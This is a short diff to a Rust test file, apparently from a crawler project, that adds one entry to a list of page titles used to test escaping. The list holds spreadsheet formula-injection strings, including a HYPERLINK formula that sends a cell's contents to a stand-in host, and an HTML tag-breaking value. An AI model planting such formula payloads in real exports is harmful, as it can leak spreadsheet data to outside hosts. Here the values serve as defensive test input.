@@ -10,7 +10,7 @@ use crate::common::{Ended, Running, crawldeck, wait};
 use crate::rows;
 
 /// Titles that are hard to write down: what a spreadsheet would run, and what forms have to escape.
-pub const TITLES: [&str; 12] = [
+pub const TITLES: [&str; 13] = [
     "=HYPERLINK(\"http://h:1/?\"&A1)",
     "+1",
     "-1+2",
@@ -23,6 +23,7 @@ pub const TITLES: [&str; 12] = [
     "'quoted",
     "</title>\\u0041",
     "",
+    "x;=HYPERLINK(A1)",
 ];
 
 /// First number of the pages with these titles.
